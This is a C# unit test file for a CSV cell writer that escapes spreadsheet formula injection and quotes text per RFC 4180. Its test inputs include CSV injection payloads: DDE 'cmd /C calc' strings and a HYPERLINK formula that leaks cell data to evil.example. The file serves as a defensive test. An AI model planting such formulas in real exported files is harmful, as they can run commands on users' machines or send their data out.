using EventReview.Hosting;
using EventReview.Tests.Infrastructure;
using Shouldly;

namespace EventReview.Tests.Foundation;

public class CsvCellTests
{
    private const string FormulaStarts = "=+-@\t\r";

    // OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): its two worked examples.
    [Theory]
    [InlineData("=1+2\";=1+2", "\"'=1+2\"\";=1+2\"")]
    [InlineData("=1+2'\" ;,=1+2", "\"'=1+2'\"\" ;,=1+2\"")]
    public void OWASPs_examples_are_sanitised_as_OWASP_sanitises_them(string input, string sanitised)
    {
        CsvCell.Text(input).ShouldBe(sanitised);
    }

    // The attack strings the OWASP page and the CSV injection literature show, one per dangerous first character.
    [Theory]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Error: please click\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+9)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+2")]
    [InlineData("\r=1+2")]
    public void Text_a_spreadsheet_would_run_gets_a_leading_quote_and_is_quoted(string input)
    {
        CsvCell.Text(input).ShouldBe("\"'" + input.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"");
    }

    [Theory]
    [InlineData(null, "")]
    [InlineData("", "")]
    [InlineData("PubMed", "PubMed")]
    [InlineData("Wrong population; adults", "Wrong population; adults")]
    [InlineData("Smith, J", "\"Smith, J\"")]
    [InlineData("say \"no\"", "\"say \"\"no\"\"\"")]
    [InlineData("two\nlines", "\"two\nlines\"")]
    [InlineData("a=1+2", "a=1+2")]
    [InlineData(" =1+2", " =1+2")]
    [InlineData("'=1+2", "'=1+2")]
    public void Other_text_is_written_as_RFC_4180_asks(string? input, string cell)
    {
        CsvCell.Text(input).ShouldBe(cell);
    }

    [Theory]
    [InlineData(0L, "0")]
    [InlineData(408L, "408")]
    [InlineData(-1L, "-1")]
    [InlineData(null, "")]
    public void Numbers_stay_plain_numbers(long? value, string cell)
    {
        CsvCell.Number(value).ShouldBe(cell);
    }

    [Fact]
    public void Any_text_reads_back_as_one_cell_that_no_spreadsheet_runs()
    {
        var random = new Random(4180);
        const string alphabet = "=+-@\t\r\n,\"' ;abc1|!()";
        for (var run = 0; run < 2_000; run++)
        {
            var text = string.Concat(Enumerable.Range(0, random.Next(0, 12)).Select(_ => alphabet[random.Next(alphabet.Length)]));

            var cell = Rfc4180.Read(CsvCell.Text(text) + "\r\n").ShouldHaveSingleItem().ShouldHaveSingleItem();

            cell.ShouldBe(text.Length > 0 && FormulaStarts.Contains(text[0], StringComparison.Ordinal) ? "'" + text : text, $"run {run}");
            (cell.Length > 0 && FormulaStarts.Contains(cell[0], StringComparison.Ordinal)).ShouldBeFalse($"run {run}: {cell}");
        }
    }

    [Fact]
    public void A_line_is_its_cells_joined_by_commas()
    {
        CsvCell.Line(["Study", null, "-", "a,b"]).ShouldBe("Study,,\"'-\",\"a,b\"");
    }
}
